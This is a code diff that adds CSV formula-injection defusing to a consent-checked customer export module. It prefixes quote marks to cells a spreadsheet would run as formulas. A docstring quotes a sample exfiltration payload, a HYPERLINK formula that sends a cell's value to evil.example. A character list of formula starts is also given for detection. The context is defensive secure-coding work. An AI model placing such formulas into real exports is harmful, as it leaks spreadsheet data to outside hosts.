@@ -3,12 +3,12 @@
 ``export_segment`` selects the segment (sandboxed, :mod:`consent.segments`), keeps only the customers
 :mod:`consent.enforce` approves for the purpose, and hands the rows to :func:`write_export`, which is the
 only function here that writes an export file. It asks :func:`consent.enforce.verify` once more, just
-before writing, so rows that reach it any other way are refused too. Files are CSV or Parquet by
-extension, created readable by their owner only (0600), written to a temporary name and renamed into
-place, then recorded:
+before writing, so rows that reach it any other way are refused too. Files are CSV (with cells a
+spreadsheet would run as formulas defused, :func:`_defused`) or Parquet by extension, created readable by
+their owner only (0600), written to a temporary name and renamed into place, then recorded:
 
 * ``export_register(export_id, segment, purpose, exported_at, row_count, file, file_hash, contact_column,
-  columns)``: one row per file; counts and a SHA-256, no personal data;
+  columns)``: one row per file; counts and a SHA-256 of the file as written, no personal data;
 * ``export_members(export_id, customer_id)``: who was in each file, so an erasure or access request can
   find every export naming a subject (erasure deletes the subject's rows here).
 """
@@ -18,6 +18,7 @@ from __future__ import annotations
 import contextlib
 import hashlib
 import os
+import re
 import uuid
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -154,10 +155,11 @@ def private_file(path: Path, what: str) -> Iterator[BinaryIO]:
 
 
 def write_private_file(rows: pd.DataFrame, out: Path, fmt: str) -> None:
-    """Write ``rows`` as CSV or Parquet through :func:`private_file`."""
+    """Write ``rows`` as CSV (flattened, formulas defused: :func:`_defused`) or Parquet through
+    :func:`private_file`."""
     with private_file(out, "export") as fh:
         if fmt == "csv":
-            _flat(rows).to_csv(fh, index=False)
+            _defused(_flat(rows)).to_csv(fh, index=False)
         else:
             rows.to_parquet(fh, index=False)
 
@@ -173,6 +175,34 @@ def _flat(rows: pd.DataFrame) -> pd.DataFrame:
         if flat[col].dtype == object and flat[col].map(_is_list).any():
             flat[col] = flat[col].map(lambda v: ";".join(map(str, v)) if _is_list(v) else v)
     return flat
+
+
+#: What a spreadsheet reads as the start of a formula in a cell (OWASP, "CSV injection").
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: Cells that start so but are data marketers' tools read as it is: a plain number (``-12.50``) or an E.164
+#: phone number (``+447911123456``, a plain number too). A spreadsheet shows them as numbers; none runs.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
+
+
+def _defuse(value: object) -> object:
+    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def _defused(rows: pd.DataFrame) -> pd.DataFrame:
+    """Text cells a spreadsheet would run as a formula, prefixed with ``'`` so that it shows them as text.
+
+    Profile values are what customers and upstream systems typed: a CRM first name of
+    ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would otherwise be a live link in the marketer's
+    spreadsheet. CSV only: Parquet holds typed values that no spreadsheet evaluates. A value already
+    prefixed (erasure rewrites earlier exports through here) starts with ``'`` and is left as it is.
+    """
+    defused = rows.copy()
+    for col in defused.columns:
+        if defused[col].dtype == object or pd.api.types.is_string_dtype(defused[col]):
+            defused[col] = defused[col].map(_defuse)
+    return defused
 
 
 def _record(
